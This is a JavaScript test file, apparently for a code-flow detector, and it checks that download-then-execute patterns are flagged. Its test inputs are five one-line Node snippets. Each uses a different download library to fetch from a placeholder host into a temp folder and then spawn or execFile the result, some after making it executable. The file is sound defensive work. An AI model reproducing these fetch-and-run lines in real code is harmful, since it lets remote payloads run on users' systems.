import assert from 'node:assert/strict';
import { flowsOf } from './sent.js';

const TOOL = `const dir = os.tmpdir(), file = path.join(dir, 'tool');`;

describe('what puts into a file what a host gives', () => {
  for (const way of [
    `require('needle').get('https://load.invalid/t', { output: file }, (e) => { fs.chmodSync(file, 0o755); cp.spawn(file, []); });`,
    `require('download')('https://load.invalid/t', dir).then(() => cp.spawn(path.join(dir, 'tool')));`,
    `const { DownloaderHelper: D } = require('node-downloader-helper'), d = new D('https://load.invalid/t', dir); d.on('end', () => cp.execFile(file)); d.start();`,
    `const { Downloader: D } = require('nodejs-file-downloader'); new D({ url: 'https://load.invalid/t', directory: dir }).download().then(() => cp.execFile(file));`,
    `require('wget-improved').download('https://load.invalid/t', file).on('end', () => cp.execFile(file));`,
  ]) {
    it(`is followed to where that is run: ${way}`, () => {
      assert.deepEqual([...new Set(flowsOf(TOOL + way))], ['downloaded>written-and-run']);
    });
  }

  it('says nothing where other things are run', () => {
    assert.deepEqual(
      flowsOf(`${TOOL} require('download')('https://load.invalid/t', dir).then(() => cp.spawn('ls', ['-l']));`),
      [],
    );
    assert.deepEqual(flowsOf(`${TOOL} require('needle').get('https://load.invalid/t', { output: file });`), []);
  });
});
